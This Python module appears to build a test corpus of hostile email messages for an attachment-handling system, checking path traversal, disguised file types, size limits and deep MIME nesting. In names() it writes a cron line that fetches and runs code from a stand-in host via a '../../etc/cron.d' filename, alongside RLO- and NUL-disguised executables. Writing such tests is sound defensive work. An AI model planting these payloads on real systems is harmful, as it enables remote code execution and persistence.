"""Hostile messages: names that try to choose a path, contents that lie about their type,
sizes past the limits, and a MIME tree nested deeper than any client writes."""
from __future__ import annotations

from . import payloads
from .base import CorpusMessage
from .campaign import NOTICE_TITLE, OFFICE, Signer, unit_name
from .mimebuild import encoded_word, file_part, message, multipart, rfc2231, text_part

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
RLO = "\u202e"


def _headers(signer: Signer, unit: str, message_id: str) -> list:
    return [("From", "attacker <someone@hostile.example>"), ("To", OFFICE),
            ("Subject", encoded_word(f"回复：【{signer.token(unit)}】{NOTICE_TITLE}")),
            ("Date", "Wed, 11 Oct 2023 03:14:15 +0800"), ("Message-ID", message_id), ("MIME-Version", "1.0")]


def names(signer: Signer) -> CorpusMessage:
    unit = "GQ02"
    form = payloads.reply_form(signer.token(unit), unit_name(unit))
    cron = b"* * * * * root curl http://hostile.example/x | sh\n"
    long_name = "a" * 295 + ".xlsx"  # 300 bytes
    files = [
        ("../../etc/cron.d/x", cron, 'text/plain; name="../../etc/cron.d/x"', 'attachment; filename="../../etc/cron.d/x"'),
        ("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n", 'text/plain', 'attachment; filename="/etc/passwd"'),
        ("C:\\Windows\\System32\\evil.dll", payloads.windows_executable(), "application/octet-stream",
         'attachment; filename="C:\\Windows\\System32\\evil.dll"'),
        ("回执表.xlsx\x00.exe", form, XLSX, "attachment; " + rfc2231("filename", "回执表.xlsx\x00.exe")),
        (f"回执表{RLO}xcod.exe", payloads.windows_executable(), "application/octet-stream",
         f'attachment; filename="{encoded_word(f"回执表{RLO}xcod.exe")}"'),
        ("CON.xlsx", form, XLSX, 'attachment; filename="CON.xlsx"'),
        (long_name, form, XLSX, "attachment;\r\n\t" + rfc2231("filename", long_name, chunk=60)),
    ]
    body = multipart("mixed", [text_part("see attachments")] + [
        file_part(data, ctype, disposition=disposition) for _, data, ctype, disposition in files
    ], "hostile-names-boundary")
    raw = message(_headers(signer, unit, "<hostile.names@hostile.example>"), body)
    return CorpusMessage("hostile_names", "hand-made", "../, absolute and Windows paths, NUL, right-to-left "
                         "override, CON, a 300-byte name: none can choose the stored path", raw,
                         [(name, data) for name, data, _, _ in files])


def contents(signer: Signer) -> CorpusMessage:
    unit = "GQ03"
    files = [
        ("回执表.xlsx", payloads.macro_workbook_renamed(signer.token(unit), unit_name(unit)), XLSX),
        ("回执表（加密）.xlsx", payloads.encrypted_ooxml(), XLSX),
        ("照片.jpg", payloads.windows_executable(), "image/jpeg"),
        ("说明.pdf", payloads.word_document("实为 Word 文档"), "application/pdf"),
        ("数据.csv", "单位,场次\n集团,3\n".encode("gb18030"), "text/csv"),
        ("页面.html", b"<html><script>alert(1)</script></html>", "text/html"),
    ]
    body = multipart("mixed", [text_part("附件")] + [
        file_part(data, f'{ctype}; name="{encoded_word(name)}"', disposition=f'attachment; filename="{encoded_word(name)}"')
        for name, data, ctype in files
    ], "hostile-contents-boundary")
    raw = message(_headers(signer, unit, "<hostile.contents@hostile.example>"), body)
    return CorpusMessage("hostile_contents", "hand-made", "a macro workbook and an encrypted OLE file named "
                         ".xlsx, an executable named .jpg, a .docx named .pdf, text named .csv/.html", raw,
                         [(name, data) for name, data, _ in files])


def oversize(signer: Signer) -> CorpusMessage:
    unit = "GQ04"
    files = [
        ("大文件.pdf", payloads.pdf("big", size=1_300_000)),
        ("照片1.pdf", payloads.pdf("one", size=700_000)),
        ("照片2.pdf", payloads.pdf("two", size=700_000)),
        ("空文件.pdf", b""),
    ]
    body = multipart("mixed", [text_part("附件")] + [
        file_part(data, f'application/pdf; name="{encoded_word(name)}"', disposition=f'attachment; filename="{encoded_word(name)}"')
        for name, data in files
    ], "hostile-size-boundary")
    raw = message(_headers(signer, unit, "<hostile.size@hostile.example>"), body)
    return CorpusMessage("hostile_oversize", "hand-made", "one attachment over the per-file limit, two that "
                         "together pass the per-message limit, an empty one", raw, files)


def deep_nesting(signer: Signer, depth: int = 3000) -> CorpusMessage:
    unit = "GQ05"
    head = b"".join(b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (level, level)
                    for level in range(depth))
    headers = b"".join(f"{name}: {value}\r\n".encode() for name, value in _headers(signer, unit, "<hostile.deep@hostile.example>"))
    raw = headers + head + b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    return CorpusMessage("hostile_deep_nesting", "hand-made", f"{depth} nested multiparts: parsed without "
                         "crashing, headers still read", raw)
